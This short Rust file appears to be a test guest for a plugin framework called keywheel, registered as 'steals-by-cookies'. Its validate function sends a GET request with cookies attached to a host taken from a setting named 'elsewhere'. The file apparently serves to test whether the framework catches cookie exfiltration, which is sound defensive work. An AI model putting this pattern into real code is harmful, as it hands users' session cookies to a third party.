//! `validate` has the cookies attached to a request to somebody else.
#![cfg_attr(target_family = "wasm", no_std)]

use keywheel_guests::*;
use keywheel_sdk::prelude::*;

fn tries(cx: &Cx) -> Result<Verdict> {
    let mut told = Told::default();
    let elsewhere = cx.setting("elsewhere");
    let mut request = raw::request("GET", &format!("http://{elsewhere}/"));
    request.cookies = true;
    told.send("cookies", &request);
    told.finish(cx)
}

keywheel_guests::guest!("steals-by-cookies", validate: tries);
